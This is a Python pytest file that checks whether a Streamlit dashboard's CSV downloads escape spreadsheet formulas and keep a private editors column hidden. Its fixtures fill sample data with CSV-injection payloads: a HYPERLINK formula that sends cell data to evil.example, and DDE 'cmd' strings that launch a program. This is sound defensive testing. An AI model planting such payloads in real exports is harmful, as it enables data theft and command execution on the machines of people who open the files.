"""What the dashboard's downloads hold, page by page.

- Every CSV, on a workbook whose text is written like formulas: no cell of any file would run
  as a formula in a spreadsheet (OWASP « CSV injection »).
- The editors column (« référents »: who may post updates) is never shown nor downloaded.
"""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from data_sources.reading.loader import SAMPLE_DIR
from tests.app.output import raw_output
from ui.navigation import page_scripts

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"clic")'
FORMULAS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _poison(path, column: int, unique: bool = False) -> None:
    """Replace a column's cells of a CSV tab by formulas (numbered when ``unique``)."""
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    for number, row in enumerate(rows[1:]):
        row[column] = FORMULAS[number % 4] + (f" {number}" if unique else "")
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The sample with formulas for coalition names, families and next steps, event titles, progress
    notes and actor types (ids and references kept: every page still has data to draw)."""
    folder = tmp_path_factory.mktemp("formulas")
    for source in SAMPLE_DIR.glob("*.csv"):
        shutil.copy(source, folder / source.name)
    _poison(folder / "coalitions.csv", 1)  # nom
    _poison(folder / "coalitions.csv", 2)  # famille
    _poison(folder / "coalitions.csv", 12)  # prochaine étape
    _poison(folder / "events.csv", 1, unique=True)  # titre
    _poison(folder / "progress.csv", 3)  # commentaire
    _poison(folder / "actors.csv", 1)  # catégorie
    return folder


@pytest.fixture
def downloads(monkeypatch):
    """Every file a run offers for download: file id -> (mimetype, bytes)."""
    files: dict[str, tuple[str, bytes]] = {}
    real = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        file_id = real(self, path_or_data, mimetype, kind, filename)
        if isinstance(path_or_data, bytes):
            files[file_id] = (mimetype, path_or_data)
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return files


def _csv_files(at, downloads) -> list[list[list[str]]]:
    found = []
    for button in at.get("download_button"):
        file_id = button.proto.url.rsplit("/", 1)[-1].split(".")[0]
        if file_id in downloads and downloads[file_id][0] == "text/csv":
            text = downloads[file_id][1].decode("utf-8-sig")
            found.append(list(csv.reader(io.StringIO(text))))
    return found


def _live_formulas(rows: list[list[str]]) -> list[str]:
    live = []
    for cell in (cell for row in rows for cell in row):
        if cell.startswith(FORMULA_START):
            try:
                float(cell)
            except ValueError:
                live.append(cell)
    return live


@pytest.mark.parametrize("page", page_scripts())
def test_no_csv_of_a_page_holds_a_live_formula(app, hostile, downloads, page):
    query = {"coalition": "envdata"} if page.endswith("coalition.py") else None
    at = app(page=page, data=hostile, query=query)
    assert not at.exception
    files = _csv_files(at, downloads)
    for rows in files:
        assert _live_formulas(rows) == []
    if page.endswith(("overview.py", "maturity.py", "coalition.py")):
        assert files, f"{page} offers CSV downloads of charts naming coalitions"
        text = "\n".join(cell for rows in files for row in rows for cell in row)
        # The formulas are there, as text a spreadsheet shows: not dropped, not run.
        assert any("'" + formula in text for formula in FORMULAS), text[:500]


@pytest.fixture(scope="module")
def with_editors(tmp_path_factory):
    """The sample with an address in every coalition's editors column (« référents »)."""
    folder = tmp_path_factory.mktemp("editors")
    for source in SAMPLE_DIR.glob("*.csv"):
        shutil.copy(source, folder / source.name)
    path = folder / "coalitions.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    column = rows[0].index("référents")
    for row in rows[1:]:
        row[column] = f"referent-secret@{row[0]}.example; autre-secret@fing.org"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return folder


@pytest.mark.parametrize("page", page_scripts())
def test_the_editors_column_is_never_shown_nor_downloaded(app, with_editors, downloads, page):
    query = {"coalition": "envdata"} if page.endswith("coalition.py") else None
    at = app(page=page, data=with_editors, query=query)
    assert not at.exception
    sent = raw_output(at) + "".join(
        data.decode("utf-8", "replace") for _, data in downloads.values()
    )
    assert "secret@" not in sent
